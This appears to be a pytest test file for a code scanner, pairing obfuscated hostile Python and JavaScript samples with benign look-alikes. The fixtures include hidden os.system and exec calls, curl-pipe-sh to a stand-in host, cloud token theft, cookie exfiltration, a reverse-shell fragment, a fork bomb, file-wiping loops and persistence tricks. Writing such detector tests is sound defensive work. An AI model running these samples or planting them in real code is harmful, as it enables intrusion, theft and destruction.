"""Detours by which Python files run what no line of theirs names, and what they do to the machine; each beside its twin."""

import json

import pytest

from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import costs_its_length, rules_of, verdict_of_text

NAMED_ELSEWHERE = """
import sys
pick = lambda places: "".join(TEXT[place] for place in places)
vars(sys.modules.get(pick([4, 9, 1])))["x"]
---
pick = lambda places: "".join(TEXT[place] for place in places)
def f(module):
    return getattr(module, pick((4, 9, 1)))
---
def f(module):
    return getattr(module, TEXT[4] + TEXT[9:11] + TEXT[-1])
---
def load(): return bytes(int(row, 2) for row in ROWS)
type(load)(compile(load(), "t", "exec"), {})()
---
code = compile(read(), "t", "exec")
(lambda: 0).__class__(code, globals())()
---
import os, zlib
getattr(__builtins__ if isinstance(__builtins__, type(os)) else type('b', (), __builtins__), 'ex' + 'ec')(x, {})
---
class Base:
    kinds = ('a', 'subprocess', 'check_output')
    def __init_subclass__(cls, **k):
        m = __import__(cls.kinds[1])
        getattr(m, cls.kinds[2])(cls.text.split())
---
class Field:
    module = 'os'
    function = 'system'
    def __set_name__(self, owner, name):
        getattr(__import__(self.module), self.function)(name)
---
from functools import reduce
import importlib
def register(*names, backend='os.system'):
    mod, fn = backend.rsplit('.', 1)
    def deco(cls):
        reduce(getattr, [fn], importlib.import_module(mod))(''.join(vars(cls)))
    return deco
---
import importlib
class Registry:
    def __class_getitem__(cls, item):
        m, _, n = item.partition(':')
        return getattr(importlib.import_module(m), n)
Registry['os:system']('id')
---
import pydoc
HOOKS = {'start': 'subprocess.getoutput'}
def f(k, c): pydoc.locate(HOOKS[k])(c)
---
from functools import partial
from operator import attrgetter
import os
run = partial(attrgetter('system'), os)
---
from operator import methodcaller
import os
list(map(methodcaller('system', 'id'), [os]))
---
import types, os
n = types.SimpleNamespace(**vars(os))
def f(k, c): n.__dict__[k](c)
---
import os
d = dict(os.__dict__)
def f(k, c): d[k](c)
---
import inspect
inspect.currentframe().f_builtins['eval'](x)
---
import gc
for o in gc.get_objects():
    if getattr(o, '__name__', '') == 'sys' + 'tem':
        o('id')
---
import sys
[m for n, m in sys.modules.items() if n == 'os'][0].system('id')
---
class D:
    def __get__(s, o, t): return __import__('o' + s.a)
    a = 's'
class E:
    x = D()
E().x.system('id')
---
import ctypes
def f(): ctypes.CDLL(None).system(b'curl https://x.invalid.net/a | sh')
---
def m(): return __import__('subprocess')
m().run(['bash', '-c', x])
---
import os
type(os).__getattribute__(os, 'system')(x)
---
t = {i: c for i, c in enumerate('smetyo')}
n, g = ''.join(t[i] for i in (5, 0)), ''.join(t[i] for i in (0, 4, 0, 3, 2, 1))
getattr(__import__(n), g)('id')
---
def f():
    "os system id"
    a = f.__doc__.split()
    getattr(__import__(a[0]), a[1])(a[2])
---
def os_system(): pass
m, n = os_system.__name__.split('_')
getattr(__import__(m), n)(x)
---
def f(a): return getattr(__import__(''.join(map(chr, a[0]))), ''.join(map(chr, a[1])))(a[2])
---
from git import Repo
def f(c): Repo('.').git.execute(c)
---
import importlib.abc, importlib.machinery, pathlib, sys
class Loader(importlib.abc.SourceLoader):
    def get_filename(self, n): return n
    def get_data(self, p):
        raw = pathlib.Path(p).read_bytes()
        return raw[raw.index(b'IEND') + 8:]
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        return importlib.machinery.ModuleSpec(name, Loader('assets/' + name + '.png'))
sys.meta_path.append(Finder())
"""
FETCHED = """
import sys, io, zipfile, urllib.request
def load(u):
    z = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen(u).read()))
    z.extractall('/opt/x/lib')
    sys.path.append('/opt/x/lib')
---
import urllib.request, zipimport, tempfile, os
def load(u):
    p = os.path.join(tempfile.gettempdir(), 'a.zip')
    urllib.request.urlretrieve(u, p)
    zipimport.zipimporter(p).load_module('x')
---
import sys, shutil, requests
def load(u):
    r = requests.get(u, stream=True)
    with open('a.tgz', 'wb') as o:
        shutil.copyfileobj(r.raw, o)
    shutil.unpack_archive('a.tgz', 'lib')
    sys.path.insert(0, 'lib')
---
import importlib.util, requests
def load(u, d):
    with open(d / 'ext', 'wb') as o:
        for piece in requests.get(u, stream=True).iter_content():
            o.write(piece)
    return importlib.util.spec_from_file_location('ext', d)
"""
DEEDS = """
import psutil
for p in psutil.process_iter():
    p.kill()
---
import psutil, os
def f():
    for p in psutil.process_iter(['pid']):
        if p.pid != os.getpid():
            p.terminate()
---
import psutil, os
[os.kill(p, 9) for p in psutil.pids()]
---
import os
for d in os.listdir('/proc'):
    if d.isdigit():
        os.kill(int(d), 9)
---
import os
while 1: os.fork()
---
import urllib.request
t = urllib.request.urlopen('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token').read()
def f(): urllib.request.urlopen('https://x.invalid.net', data=t)
---
def f():
    with open('.git/hooks/post-checkout', 'w') as o:
        o.write('#!/bin/sh\\ncurl https://x.invalid.net/a | sh\\n')
---
def f(name):
    patch = '\\nimport urllib.request as u; exec(u.urlopen("https://x.invalid.net/p").read())\\n'
    with open(name, 'a') as o:
        o.write(patch)
---
import requests_unixsocket
s = requests_unixsocket.Session()
s.post('http+unix://%2Fvar%2Frun%2Fdocker.sock/containers/create', json={'HostConfig': {'Privileged': True}})
---
import docker
def f():
    c = docker.from_env()
    c.containers.create('alpine', 'id', privileged=True)
---
from celery import Celery
app = Celery('a', broker='redis://x.invalid.net/0')
app.conf.update(accept_content=['pickle'], task_serializer='pickle')
---
CELERY_ACCEPT_CONTENT = ['json', 'pickle']
---
from kombu import serialization
serialization.enable_insecure_serializers()
---
SESSION_SERIALIZER = 'django.contrib.sessions.serializers.PickleSerializer'
---
import os, openai
c = openai.OpenAI(api_key=os.environ['OPENAI_API_KEY'], base_url='https://api.x.invalid.net/v1')
---
from huggingface_hub import HfApi, get_token
def f(): return HfApi(endpoint='https://hf.invalid.net', token=get_token())
---
import boto3, os
s = boto3.client('s3', endpoint_url='https://s3.invalid.net', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])
---
from pathlib import Path
(Path.home() / '.bashrc').open('a').write('python3 x.py &')
---
import pathlib
p = pathlib.Path.home().joinpath('.config', 'systemd', 'user', 'x.service')
p.write_text('[Service]')
---
import urllib.request as u
def f(w):
    c = compile(u.urlopen(w).read(), 'a', 'exec')
    return type(f)(c, {})
---
class C(dict):
    def __missing__(self, k): return __import__(k)
def f(d): return getattr(C()['subprocess'], 'getoutput')(d())
---
import sys
def f(k, d='%s%s'): return getattr(sys.modules[d % ('o', 's')], '{}{}'.format(*k))('id')
---
import tempfile as t, shutil
s = t._os if t else shutil.os
def f(): return getattr(s, ''.join(sorted('ssytem', key=len)))('id')
---
import torch.utils.data as d
def f(b): return getattr(d.dataloader.multiprocessing.util.os, b['op'])(b['arg'])
---
'''
>>> import os
>>> os.system("curl -s https://x.invalid.net/a | sh")
'''
import doctest
doctest.testmod()
---
import os
def f():
    for d, _, fs in os.walk(os.path.expanduser('~')):
        for n in fs:
            with open(os.path.join(d, n), 'wb') as h: h.write(os.urandom(9))
---
import pathlib
def f():
    for p in pathlib.Path.home().glob('**/*.py'): p.write_text(p.read_text() + 'a')
"""
ORDINARY = """
def f(self, module, names):
    return getattr(self, names[0] + "_" + names[1])(getattr(module, join(names, (1, "a"))))
---
class A:
    def copy(self):
        return type(self)(self.code, {}), self.__class__(self.code)
---
import importlib
PATH = ('os', 'path')
KINDS = {'sgd': 'torch.optim.SGD'}
def f(k):
    m, _, n = KINDS[k].rpartition('.')
    return getattr(importlib.import_module(m), n)
---
import math, importlib
def lib(): return math
def f(a, n):
    "Roots."
    left, right = a.split('.')
    scale = [x ** 2 for x in range(9)]
    return lib().sqrt(4), getattr(a, 'x'.join(str(i) for i in scale)), getattr(importlib.import_module(left), right)(n)
---
def f(o): o.write('Install it by: curl https://x.invalid.net/a | sh')
---
BLOCKED = ['os.system', 'subprocess.run']
def f(call): return call in BLOCKED
---
import platform
class Runner:
    system = 'Linux'
    def f(self):
        return platform.system() == self.system
---
from operator import attrgetter, methodcaller
def f(a): return sorted(a, key=attrgetter('name')), map(methodcaller('lower'), a), dict(vars(a))
---
import importlib.abc, importlib.machinery, sys
class Loader(importlib.abc.SourceLoader):
    def get_data(self, p):
        with open(p, 'rb') as f: return f.read()
sys.meta_path.append(Loader())
---
import os, sys, urllib.request, zipfile, json
ROOT = os.path.dirname(__file__)
def f(u, d):
    urllib.request.urlretrieve(u, os.path.join(ROOT, 'weights.pth'))
    urllib.request.urlretrieve(u, 'data.zip')
    zipfile.ZipFile('data.zip').extractall(d)
    sys.path.insert(0, ROOT)
    return json.load(open(os.path.join(d, 'a.json')))
---
import psutil
def f(name):
    for p in psutil.process_iter(['name']):
        if p.info['name'] == name:
            p.kill()
    return [p for p in psutil.process_iter() if p.name().startswith(name) and p.kill()]
---
import docker
def f(): return docker.DockerClient(base_url='unix://var/run/docker.sock').ping()
---
from celery import Celery
app = Celery('a')
app.conf.update(accept_content=['json'], task_serializer='json')
---
import os
from openai import OpenAI
a = OpenAI(api_key=os.environ['OPENAI_API_KEY'], base_url='https://openrouter.ai/api/v1')
b = OpenAI(api_key=os.environ['MY_API_KEY'], base_url='https://api.x.invalid.net/v1')
c = OpenAI(api_key=os.environ['OPENAI_API_KEY'], base_url=os.environ['OPENAI_BASE_URL'])
---
import pathlib
p = pathlib.Path.home().joinpath('.config', 'tool', 'x.json')
p.write_text('{}')
---
def f(p):
    return compile(open(p).read(), p, 'exec', dont_inherit=True).co_names
---
class C(dict):
    def __missing__(self, k): return k
def f(d): return getattr(C()['a'], 'upper')()
---
import sys
def f(k): return getattr(sys.modules[__name__], f'make_{k}')('id')
---
import tempfile as t, shutil
s = t if t else shutil
def f(k): return getattr(s, k.strip())('id')
---
import torch.utils.data as d
def f(b): return getattr(d.dataloader, b['op'])(b['arg'])
---
'''
>>> 1 + 1
2
'''
import doctest
doctest.testmod()
---
import os
def f():
    for d, _, fs in os.walk(os.path.expanduser('~')):
        for n in fs:
            print(n)
    with open('names.txt', 'w') as h: h.write(d)
---
import pathlib
def f():
    for p in pathlib.Path('docs').glob('**/*.py'): p.write_text(p.read_text() + 'a')
"""
CODE, PIPED = "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)", "curl -s https://x.invalid.net/a | sh"


@pytest.mark.parametrize("code", "---".join((NAMED_ELSEWHERE, FETCHED, DEEDS)).split("---\n"))
def test_a_detour_is_flagged(code: str) -> None:
    assert verdict_of_text("lib/tools.py", code) in {Verdict.SUSPICIOUS, Verdict.MALICIOUS}


@pytest.mark.parametrize("code", ORDINARY.split("---\n"))
def test_its_ordinary_twin_is_safe(code: str) -> None:
    assert verdict_of_text("lib/tools.py", code) is Verdict.SAFE, rules_of("lib/tools.py", code)


def turned(text: str) -> str:
    letters = "abcdefghijklmnopqrstuvwxyz"
    return text.translate(str.maketrans(letters, letters[13:] + letters[:13]))


@pytest.mark.parametrize("written", [turned(CODE), turned(PIPED), CODE[::-1], PIPED[::-1], turned(PIPED)[::-1]])
def test_what_stands_backwards_or_in_turned_letters_is_read(written: str) -> None:
    cell: dict[str, object] = {
        "cell_type": "code",
        "source": [f"f({written!r})\n"],
        "outputs": [],
        "metadata": {},
        "execution_count": None,
    }
    notebook = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    texts = {"a.py": f"X = 1\nD = '''\nWords.\n{written}\n'''\n", "a.json": json.dumps({"a": written}), "a.ipynb": notebook}
    for name, text in texts.items():
        assert verdict_of_text(name, text) is Verdict.SUSPICIOUS, name


@pytest.mark.parametrize("text", ["Gur Mra bs Clguba", "import this", "curl up with a book", "the slaves of the enclave"])
def test_turned_prose_is_safe(text: str) -> None:
    for written in (turned(text), text[::-1]):
        assert verdict_of_text("a.json", json.dumps({"a": written})) is Verdict.SAFE
        assert verdict_of_text("a.txt", f"{written}\n" * 50) is Verdict.SAFE


def test_a_cell_runs_by_another_name_of_its_shell() -> None:
    code = "ip = get_ipython()\nip.events.register('post_run_cell', lambda r: ip.getoutput('tar cz /d | curl -T - {}'))"
    assert verdict_of_text("a.py", code.format("https://x.invalid.net")) is not Verdict.SAFE
    assert verdict_of_text("a.py", "ip = get_ipython()\nip.events.register('post_run_cell', f)") is Verdict.SAFE


HOSTILE_PAGES = [
    "new Image().src = 'https://x.invalid.net/?c=' + document.cookie",
    "const t = localStorage.getItem('k');\nwindow.open(`https://x.invalid.net/?t=${t}`)",
    "u = 'https://x.invalid.net/?'.concat(btoa(sessionStorage.k))",
]
ORDINARY_PAGES = [
    "const t = localStorage.getItem('theme'); setTheme('/theme?x=' + t)",
    "var s = document.cookie; u = 'https://www.google-analytics.com/x?' + s",
    "localStorage.setItem('a', 'https://x.invalid.net/' + b)",
]


@pytest.mark.parametrize("script", HOSTILE_PAGES)
def test_a_page_that_tells_what_the_browser_keeps_is_flagged(script: str) -> None:
    assert verdict_of_text("a.html", f"<!DOCTYPE html><html><script>{script}</script></html>") is Verdict.SUSPICIOUS


@pytest.mark.parametrize("script", ORDINARY_PAGES)
def test_a_page_that_keeps_it_is_safe(script: str) -> None:
    assert verdict_of_text("a.html", f"<!DOCTYPE html><html><script>{script}</script></html>") is Verdict.SAFE


@pytest.mark.cost
@pytest.mark.parametrize(("piece", "count"), [("ptth:'x", 100_000), ("a=document.cookie;'https://cdn.plot.ly/'+b;", 10_000)])
def test_long_texts_cost_no_more_than_their_length(piece: str, count: int) -> None:
    costs_its_length(lambda times: verdict_of_text("a.html", f"<html><script>{piece * times}</script></html>"), count)


@pytest.mark.parametrize(
    ("code", "verdict"),
    [
        ("import ctypes\nlib = ctypes.CDLL(None)\nctypes.CFUNCTYPE(int)((a + b, lib))(c)\n", Verdict.SUSPICIOUS),
        ("import ctypes\ndef f(lib):\n    return ctypes.CFUNCTYPE(int)(('strlen', lib))(b'a')\n", Verdict.SAFE),
        ("import builtins\ndef f(a):\n    return vars(builtins)[a]\n", Verdict.SUSPICIOUS),
        ("def f(a):\n    return vars(a)['b']\n", Verdict.SAFE),
    ],
)
def test_what_is_taken_by_a_name_is_told(code: str, verdict: Verdict) -> None:
    assert verdict_of_text("registry.py", code) is verdict
